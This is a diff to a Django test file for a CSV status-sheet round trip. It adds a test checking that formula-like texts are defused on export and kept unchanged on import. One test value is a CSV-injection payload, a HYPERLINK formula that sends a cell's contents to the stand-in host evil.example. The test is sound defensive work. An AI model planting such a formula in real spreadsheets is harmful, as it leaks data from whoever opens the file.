@@ -1,5 +1,7 @@
 """The status sheet round trip: download, fill in, import (issue 19)."""
 
+import csv
+
 import pytest
 from django.core.cache import cache
 from django.core.management import CommandError, call_command
@@ -86,6 +88,28 @@ def test_download_import_download_is_byte_identical(plan2020, client, kommune, b
     import_file(tmp_path, filled.encode("utf-8-sig"))  # the same file twice: nothing new
     assert Statusopdatering.objects.count() == 3
     assert download(client) == second
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
+
+
+@pytest.mark.parametrize("tekst", [FORMULA, "+1", "-2 punkter", "@SUM(A1)", "\tx", "'=citeret"])
+def test_a_formula_text_is_defused_and_comes_back_unchanged(
+    plan2020, client, kommune, bo_trygt, tmp_path, tekst
+):
+    opdatering(bo_trygt, "opgivet", "2020-05-02", kommune=kommune("kolding"), tekst=tekst)
+    first = download(client)
+    rows = list(csv.reader(first.decode("utf-8-sig").splitlines(), delimiter=";"))
+    cell = next(row[4] for row in rows if row[0] == "bo-trygt")
+    assert cell == "'" + tekst  # Excel shows the text; it does not run it
+    import_file(tmp_path, first)
+    assert Statusopdatering.objects.get().tekst == tekst  # nothing added, text kept
+    assert download(client) == first
+    # Imported from the sheet, the text is the one written, not the defused one.
+    Statusopdatering.objects.all().delete()
+    import_file(tmp_path, first)
+    assert Statusopdatering.objects.get().tekst == tekst
+    assert download(client) == first
 
 
 BAD_ROWS = {
